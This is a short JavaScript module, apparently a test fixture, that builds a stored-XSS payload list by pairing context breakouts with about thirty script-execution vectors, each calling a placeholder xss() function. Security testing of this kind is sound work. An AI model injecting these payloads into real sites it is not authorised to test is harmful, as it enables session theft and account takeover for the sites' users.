/** Ways to end what one stands in. */
const BREAKS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->'];

/** Ways to run a script, each calling xss(). */
const RUNS = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg><script>xss()</script></svg>',
  '<body onload=xss()>',
  '<iframe srcdoc="<script>parent.xss()</script>">',
  '<iframe src="javascript:parent.xss()">',
  '<a autofocus onfocus=xss() href=#>',
  '<input autofocus onfocus=xss()>',
  '<details open ontoggle=xss()>',
  '<video><source onerror=xss()></video>',
  '<audio src=x onerror=xss()>',
  '<marquee onstart=xss()>',
  '<object data="javascript:xss()">',
  '<embed src="javascript:xss()">',
  '<style onload=xss()></style>',
  '<meta http-equiv=refresh content="0;url=javascript:xss()">',
  '<base href="javascript:xss()//">',
  '<form action="javascript:xss()"><button autofocus>x',
  '<math><mtext><img src=x onerror=xss()>',
  '<template><img src=x onerror=xss()></template>',
  '<noscript><img src=x onerror=xss()>',
  '<div hx-on:load="xss()" hx-trigger="load">',
  '<div hx-get="/x" hx-vals="js:{a:xss()}" hx-trigger="load">',
  '" onmouseover="xss()" autofocus onfocus="xss()',
  "' onfocus='xss()' autofocus='",
  'javascript:xss()',
  '&lt;img src=x onerror=xss()&gt;',
  '\\u003cimg src=x onerror=xss()\\u003e',
  '{{xss()}}`+xss()+`',
];

export const STORED_SCRIPTS = BREAKS.flatMap((end) => RUNS.map((run) => end + run));
